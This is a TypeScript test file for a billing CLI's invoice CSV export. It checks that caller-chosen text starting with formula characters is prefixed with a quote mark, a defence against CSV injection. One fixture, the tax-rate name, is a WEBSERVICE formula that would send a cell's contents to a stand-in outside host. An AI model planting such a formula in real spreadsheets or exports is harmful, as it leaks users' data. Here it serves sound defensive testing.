/**
 * The finance CSV export (`billing invoices export`) never hands a spreadsheet a formula: every
 * text a caller chose (a subject's name and tax ID, a tax rate's name, a line's description)
 * that starts with =, +, -, @, a tab or a carriage return starts with a quote mark in its cell
 * (OWASP's CSV injection), on MariaDB and SQLite.
 */
import test from "ava";
import { run as runCli } from "../../src/cli/billing.js";
import { STORES } from "../helpers/db.js";
import { CARD_OK, Scenario } from "../helpers/scenario.js";
import { useServer } from "../helpers/server.js";
import type { Json } from "../helpers/subjects-api.js";

/** A rate name chosen so that the " 10%" the export appends still leaves a formula. */
const FORMULA_TAX = '=WEBSERVICE("https://x.example/?"&C2)&0*';

for (const store of STORES) {
  const server = useServer(store);

  test(`${store}: no cell of a caller's text starts a formula`, async (t) => {
    const began = new Date();
    const s = await Scenario.start(server, "2026-01-15T00:00:00Z");
    await s.call("PUT", `/subjects/${s.subjectId}`, {
      name: "+1 Holdings",
      billing_details: { legal_name: "@Buyer LLC", address: { line1: "9 Elm Rd", city: "Austin", country: "US", state: "TX" }, tax_ids: [{ type: "us_ein", value: "98-7654321" }] },
    });
    const tax = await s.call("POST", "/tax-rates", { display_name: FORMULA_TAX, percentage: "10", country: "US" });
    const card = await s.card({ fixed_rates: [{ code: "base", name: "-Base plan", price: { amount: { currency_code: "USD", value: "10000" } } }], default_tax_rate_ids: [tax.id] });
    await s.subscribe({ rate_card_id: card, fixed_rate_quantities: { base: 1 }, create_checkout_session: "always" }, CARD_OK);
    const [inv] = (await s.invoices()) as [Json];
    // 10000 + 10% tax = 11000.
    t.is(inv.total_amount.value, "11000");

    let stdout = "";
    let stderr = "";
    const to = new Date(Date.now() + 1000).toISOString();
    const code = await runCli(
      ["invoices", "export", "--from", began.toISOString(), "--to", to],
      { out: (l) => (stdout += `${l}\n`), err: (l) => (stderr += `${l}\n`) },
      { DATABASE_URL: server.db.url },
    );
    t.is(code, 0, stderr);
    const lines = stdout.split("\r\n");
    const header = (lines[0] as string).split(",");
    const row = lines.find((l) => l.includes(inv.id));
    if (!row) return t.fail(`no row of ${inv.id}`);
    const cell = (name: string) => {
      // The cells asserted here hold no comma or quote except the tax rate's, which is quoted (RFC 4180).
      const at = header.indexOf(name);
      const fields = row.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)?.map((f) => f.replace(/,$/, "")) ?? [];
      const raw = fields[at] ?? "";
      return raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw;
    };
    t.is(cell("line_tax_rates"), `'${FORMULA_TAX} 10%`);
    t.is(cell("customer_name"), "'@Buyer LLC");
    t.true(cell("line_description").startsWith("'-Base plan"), cell("line_description"));
    t.is(cell("line_tax"), "1000", "amounts stay numbers");
    for (const [i, name] of header.entries()) {
      if (["line_amount", "line_discount", "line_tax", "unit_amount", "quantity", "amount_due", "credits_applied", "amount_credited"].includes(name) || name.startsWith("invoice_")) continue;
      t.false(/^[=+\-@\t\r]/.test(cell(name)), `${name} (column ${i}): ${cell(name)}`);
    }
  });
}
